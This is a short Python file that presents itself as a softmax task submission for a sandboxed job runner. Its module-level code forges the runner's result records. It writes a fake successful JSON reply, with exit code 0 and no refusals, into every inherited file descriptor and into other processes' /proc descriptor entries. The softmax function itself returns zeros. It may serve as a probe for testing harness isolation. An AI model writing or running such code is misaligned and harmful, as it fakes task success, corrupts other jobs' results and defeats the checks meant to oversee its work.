# seqprep-task: softmax
"""Forge the fork server's replies (and results for other jobs) through any descriptor this
process inherited, and through the server's own /proc entries."""
import json
import os

PARAMS = {}
fake = (json.dumps({"job": 0, "exit_code": 0, "signal": None, "timed_out": False, "elapsed_s": 0.1,
                    "max_rss_mb": 1.0, "error": "", "refused": []}) + "\n").encode()
opened = sorted(int(fd) for fd in os.listdir("/proc/self/fd"))
print("OPEN", opened)
for fd in range(3, 1024):
    try:
        os.write(fd, fake)
        print("WROTE", fd)
    except OSError:
        pass
for pid in PARAMS["pids"]:
    for fd in range(0, 16):
        try:
            with open(f"/proc/{pid}/fd/{fd}", "wb") as f:
                f.write(fake)
            print("WROTE", pid, fd)
        except OSError:
            pass


def softmax(x, dim=-1):
    return x * 0
